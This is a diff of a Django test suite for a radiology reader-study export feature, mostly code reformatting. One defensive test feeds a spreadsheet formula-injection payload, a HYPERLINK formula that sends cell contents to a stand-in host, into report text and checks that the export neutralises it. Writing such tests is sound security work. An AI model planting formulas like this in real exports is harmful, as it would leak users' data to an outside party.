@@ -8,8 +8,8 @@ import pytest
 from django.core.management import call_command
 from django.urls import reverse
 
+from readerstudy.exports import csv_lines, read_columns
 from readerstudy.models import Arm, AuditEntry, GroundTruth, Read, StudyQuestion, TruthValue
-from readerstudy.services.exports import csv_lines, read_columns
 from tests.factories import UserFactory
 from tests.reading_setup import open_study_with_assignments
 from tests.test_reading_api import annotation, event, full_report, post, submit, url
@@ -51,7 +51,11 @@ def test_the_reads_export_has_one_row_per_read_with_readable_values(read_study, 
     full = by_arm["Full AI reasoning"]
     read = Read.objects.get(assignment=assignments[Arm.FULL_REASONING])
     assert (full["reader"], full["session"], full["position"], full["case"]) == (
-        "R01", "1", "3", assignments[Arm.FULL_REASONING].case.public_id)
+        "R01",
+        "1",
+        "3",
+        assignments[Arm.FULL_REASONING].case.public_id,
+    )
     assert (int(full["active_ms"]), int(full["total_ms"])) == (read.active_ms, read.total_ms) == (4_000, 4_000)
     assert (full["finding_pleural-effusion"], full["finding_edema"]) == ("1", "0")
     assert full["annotations_false_finding"] == "1" and full["annotations_missed_finding"] == "0"
@@ -69,16 +73,24 @@ def test_events_and_annotations_have_their_own_files(read_study, client, coordin
     assert len(events) == 5 and {e["type"] for e in events} == {"image_rendered", "input", "submit"}
     notes = rows_of(download(client, study, "annotations", "csv"))
     assert [(n["target"], n["label"], n["category"], n["submitted"]) for n in notes] == [
-        ("Predicted label", "Pneumonia", "False finding", "1")]
+        ("Predicted label", "Pneumonia", "False finding", "1")
+    ]
     assert list(AuditEntry.objects.filter(action="exported").values_list("detail", flat=True)) == [
-        "Downloaded annotations.csv.", "Downloaded timing_events.csv."]
+        "Downloaded annotations.csv.",
+        "Downloaded timing_events.csv.",
+    ]
 
 
 @pytest.mark.parametrize("user,status", [("reader", 403), ("coordinator", 200), ("another team's coordinator", 404)])
 def test_exports_are_for_the_studys_coordinators(client, read_study, coordinator, user, status):
     study, _ = read_study
-    client.force_login({"reader": UserFactory(roles=["reader"]), "coordinator": coordinator,
-                        "another team's coordinator": UserFactory(roles=["coordinator"])}[user])
+    client.force_login(
+        {
+            "reader": UserFactory(roles=["reader"]),
+            "coordinator": coordinator,
+            "another team's coordinator": UserFactory(roles=["coordinator"]),
+        }[user]
+    )
     assert client.get(reverse("study-export", args=[study.pk, "reads", "csv"])).status_code == status
     assert client.get(reverse("study-export", args=[study.pk, "secrets", "csv"])).status_code in (403, 404)
 
@@ -92,11 +104,13 @@ def test_export_study_writes_the_same_files(read_study, client, coordinator, tmp
 
 
 @pytest.mark.parametrize("blank, jaccard, correct_pneumothorax", [("negative", "0.5", "0"), ("unknown", "1.0", "")])
-def test_reads_are_scored_under_the_studys_blank_rule(demo_case_set, reader, client, coordinator, blank, jaccard,
-                                                      correct_pneumothorax):
+def test_reads_are_scored_under_the_studys_blank_rule(
+    demo_case_set, reader, client, coordinator, blank, jaccard, correct_pneumothorax
+):
     """The labels file says only Cardiomegaly = 1; the reader adds Pneumothorax."""
-    study, assignments = open_study_with_assignments(demo_case_set, reader, arms=[Arm.UNAIDED], blank_truth=blank,
-                                                     team=[coordinator])
+    study, assignments = open_study_with_assignments(
+        demo_case_set, reader, arms=[Arm.UNAIDED], blank_truth=blank, team=[coordinator]
+    )
     case = assignments[Arm.UNAIDED].case
     GroundTruth.objects.filter(case=case).update(value=TruthValue.BLANK)
     GroundTruth.objects.filter(case=case, label__slug="cardiomegaly").update(value=TruthValue.POSITIVE)
@@ -110,16 +124,18 @@ def test_reads_are_scored_under_the_studys_blank_rule(demo_case_set, reader, cli
     assert (row["design"], row["previous_arm"]) == ("", "")  # assigned by hand, read once
 
 
-def test_report_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(demo_case_set, reader, client,
-                                                                              coordinator):
+def test_report_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    demo_case_set, reader, client, coordinator
+):
     study, assignments = open_study_with_assignments(demo_case_set, reader, arms=[Arm.UNAIDED], team=[coordinator])
     # A confidence scale from -2 to +2, so that a negative number reaches the export.
     StudyQuestion.objects.filter(study=study, key="confidence").update(scale_min=-2, scale_max=2)
     formula = '=HYPERLINK("http://x"&C2&D2)'
     client.force_login(reader)
     assignment = assignments[Arm.UNAIDED]
-    submit(client, assignment, report_findings=formula, ratings={**full_report(assignment)["ratings"],
-                                                                 "confidence": -2})
+    submit(
+        client, assignment, report_findings=formula, ratings={**full_report(assignment)["ratings"], "confidence": -2}
+    )
     client.force_login(coordinator)
     [row] = rows_of(download(client, study, "reads", "csv"))
     assert (row["report_findings"], row["rating_confidence"]) == ("'" + formula, "-2")
